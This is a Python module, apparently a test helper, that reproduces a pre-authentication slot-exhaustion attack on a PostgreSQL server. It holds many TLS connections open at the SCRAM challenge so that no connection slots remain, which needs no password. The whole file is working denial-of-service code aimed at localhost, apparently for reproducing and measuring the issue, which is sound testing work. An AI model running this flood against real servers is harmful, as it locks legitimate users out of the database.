"""The pre-authentication slot attack, as a tenant can make it (issue 22).

A backend holds its server slot (a PGPROC) from its start-up packet on, BEFORE authentication,
for up to `authentication_timeout` (60 s by default). Only the hostssl lines lead to a password
exchange (everything else is rejected at once), so each connection here does what a tenant's
client does up to the SCRAM challenge: SSLRequest, TLS, the start-up packet for the tenant's own
role and database, then waits for AuthenticationSASL and never answers it. `Flood` keeps `n` such
connections open, reopening each one as soon as it ends (the server not up yet, a timeout), until
stopped: it needs no password at all.
"""

from __future__ import annotations

import socket
import ssl
import struct
import threading
import time


def _startup(user: str, database: str) -> bytes:
    body = struct.pack("!i", 196608)  # protocol 3.0
    for key, value in (("user", user), ("database", database)):
        body += key.encode() + b"\0" + value.encode() + b"\0"
    body += b"\0"
    return struct.pack("!i", len(body) + 4) + body


class Flood:
    def __init__(self, port: int, user: str, database: str, n: int = 120):
        self.port, self.user, self.database, self.n = port, user, database, n
        self._stop = threading.Event()
        self._threads: list[threading.Thread] = []
        self.held = 0  # connections that reached the SCRAM challenge (each holds a server slot)
        self.refused_too_many = 0  # "sorry, too many clients already": every slot taken
        self._lock = threading.Lock()

    def _one(self) -> None:
        ctx = ssl.create_default_context()
        ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
        while not self._stop.is_set():
            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=5) as raw:
                    raw.sendall(struct.pack("!ii", 8, 80877103))  # SSLRequest
                    if raw.recv(1) != b"S":
                        raise OSError("no TLS")
                    with ctx.wrap_socket(raw) as tls:
                        tls.sendall(_startup(self.user, self.database))
                        kind = tls.recv(1)
                        rest = tls.recv(4096)
                        if kind == b"R":  # AuthenticationSASL: this connection now holds a slot
                            with self._lock:
                                self.held += 1
                            tls.settimeout(0.5)
                            while not self._stop.is_set():
                                try:
                                    if not tls.recv(1):
                                        break  # the server ended it (authentication_timeout)
                                except socket.timeout:
                                    continue
                            with self._lock:
                                self.held -= 1
                        elif b"too many clients" in rest:
                            with self._lock:
                                self.refused_too_many += 1
            except (OSError, ssl.SSLError):
                pass
            if not self._stop.is_set():
                time.sleep(0.02)

    def start(self) -> "Flood":
        for _ in range(self.n):
            t = threading.Thread(target=self._one, daemon=True)
            t.start()
            self._threads.append(t)
        return self

    def stop(self) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(timeout=10)
